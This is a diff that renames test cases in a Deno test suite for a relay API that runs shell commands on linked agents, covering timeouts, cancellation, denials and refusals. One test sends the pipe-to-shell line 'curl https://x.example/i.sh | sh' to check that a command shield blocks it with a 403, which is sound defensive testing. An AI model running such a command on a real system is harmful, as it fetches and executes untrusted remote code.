@@ -12,7 +12,7 @@ const get = (world: World, { owner, agent }: Linked, id: string) =>
 const cancel = (world: World, { owner, agent }: Linked, id: string) =>
   world.call("POST", `/api/v1/agents/${agent.id}/commands/${id}/cancel`, { as: owner.token });
 
-Deno.test("exec: answers 200 with what the command wrote, whatever its exit code", async () => {
+Deno.test("exec: answers 200 with the command's output, whatever its exit code", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   const ends = [
@@ -69,7 +69,7 @@ Deno.test("exec: answers 200 with what the command wrote, whatever its exit code
   eq(runsOf(here.agent)[0]!.timeout_ms, 9_000);
 });
 
-Deno.test("exec: what the shield denies is 403 with its reasons, on record, and reaches no agent", async () => {
+Deno.test("exec: a denied command is 403 with the reasons, is recorded, and reaches no agent", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   const answer = await exec(world, here, "curl https://x.example/i.sh | sh", {
@@ -114,7 +114,7 @@ Deno.test("exec: an agent without a link is 409, and nothing is recorded as run"
   eq(types.some((type) => type.startsWith("command_")), false);
 });
 
-Deno.test("exec: a command that the agent ended at its timeout is 504 with what it wrote", async () => {
+Deno.test("exec: a command that the agent ended at its timeout is 504 with its output", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = (run) => {
@@ -135,7 +135,7 @@ Deno.test("exec: a command that the agent ended at its timeout is 504 with what 
   deq([event!.event_type, event!.details.signal], ["command_timeout", "SIGKILL"]);
 });
 
-Deno.test("exec: an agent that does not end a command in time is not waited for longer than 5 s more", async () => {
+Deno.test("exec: the relay ends a command 5 s after its timeout if the agent does not", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = () => "silent";
@@ -158,7 +158,7 @@ Deno.test("exec: an agent that does not end a command in time is not waited for 
   ok(events[0]!.details.reason);
 });
 
-Deno.test("exec: a clock that is set forward ends no link and no command before its time", async () => {
+Deno.test("exec: a clock that jumps forward ends no link and no command early", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = () => "silent";
@@ -173,7 +173,7 @@ Deno.test("exec: a clock that is set forward ends no link and no command before 
   eq((await asked).status, 504);
 });
 
-Deno.test("exec: a command is lost with its link, 502, and a later result still tells the truth", async () => {
+Deno.test("exec: a command is lost with its link (502), and a late result replaces its end", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = () => "silent";
@@ -217,7 +217,7 @@ Deno.test("exec: no other agent can end or add to a command", async () => {
   deq((await asked).body.stdout, "true");
 });
 
-Deno.test("exec: a command that the agent refuses did not run: 503 with the reason, which is on record", async () => {
+Deno.test("exec: a command that the agent refuses is 503 with the reason, which is recorded", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = ({ command_id }) => {
@@ -255,7 +255,7 @@ Deno.test("commands.cancel: asks the agent, answers with the end, and ends the w
   eq(events[0]!.details.cancelled_by, here.owner.userId);
 });
 
-Deno.test("commands.cancel: an agent that takes its time is waited for 5 s, then the command still runs", async () => {
+Deno.test("commands.cancel: waits 5 s for a slow agent, then answers that the command still runs", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = () => "silent";
@@ -268,7 +268,7 @@ Deno.test("commands.cancel: an agent that takes its time is waited for 5 s, then
   deq([status, body.status], [200, "running"]);
 });
 
-Deno.test("commands.start: answers at once with the running command, which get follows to its end", async () => {
+Deno.test("commands.start: answers at once with the running command; get shows its end", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   here.agent.script = () => "silent";
@@ -283,7 +283,7 @@ Deno.test("commands.start: answers at once with the running command, which get f
   eq(ended.finished_at, "2030-01-01T00:00:02.000Z");
 });
 
-Deno.test("commands.start: `wait` answers with the end if it comes in time, else with what runs", async () => {
+Deno.test("commands.start: `wait` answers with the end if it comes in time, else with the running command", async () => {
   await using world = await World.open();
   const here = await linkAgent(world);
   eq((await start(world, here, { command: "uptime", wait: 5 })).body.status, "succeeded");
